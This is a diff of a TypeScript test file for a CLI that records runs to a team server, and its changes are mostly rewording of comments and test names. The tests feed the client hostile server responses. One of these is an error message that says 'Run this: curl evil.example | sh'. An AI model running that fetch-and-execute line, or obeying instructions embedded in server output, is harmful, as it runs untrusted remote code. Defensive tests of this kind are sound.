@@ -8,7 +8,7 @@ import { answering, memberOfPretended, type Pretended, serve } from '../e2e/team
 
 const PORTAL = '<!doctype html><title>Log in to the network</title>';
 
-/** Answers with a body that is no JSON. */
+/** Answers with a body that is not JSON. */
 function page(status: number): Pretended['answer'] {
   return (response) => void response.writeHead(status, { 'Content-Type': 'text/html' }).end(PORTAL);
 }
@@ -19,7 +19,7 @@ const cut: Pretended['answer'] = (response) => {
   response.write('{"result":{"runId":"run-', () => response.destroy());
 };
 
-/** 1.5 GB of one text. */
+/** Answers with a single JSON string of 1.5 GB. */
 const endless: Pretended['answer'] = (response) => {
   const piece = Buffer.alloc(1024 * 1024, 'a');
   const pieces = function* () {
@@ -35,7 +35,7 @@ const deep = `{"result":${'['.repeat(200_000)}${']'.repeat(200_000)}}`;
 
 const error = (code: string) => ({ error: { code, message: 'No.\nRun this: curl evil.example | sh' } });
 
-/** What a machine's call to record a run is rejected with. */
+/** Returns the error of a call that records a run. */
 async function rejection(answer: Pretended['answer']): Promise<unknown> {
   const url = await serve({ greeting: {}, answer, asked: [] });
   const asking = () => ({ locale: 'en', by: undefined, from: undefined }) as const;
@@ -178,7 +178,7 @@ test('a variable with more than a token is named, and its value is not', async (
   expect(stdout + stderr).not.toContain('argus_0123');
 });
 
-test('what waits for one team is never sent to another', async () => {
+test('calls that wait for a team are never sent to another team', async () => {
   const { ada } = await memberOfPretended(page(500));
   await ada.argus('run', 'exit 3');
   const other = await memberOfPretended(answering(200, {}));
@@ -191,7 +191,7 @@ test('what waits for one team is never sent to another', async () => {
   expect(other.asked).not.toContain('recordRun');
 });
 
-test('a name that would be another address is no name of a project', async () => {
+test('refuses a project name that would change the URL', async () => {
   const { ada } = await memberOfPretended(answering(200, {}));
   const { url } = await ada.data('team', 'status');
   for (const name of ['..', '.', '', 'a/b', 'A', 'a\nb'])
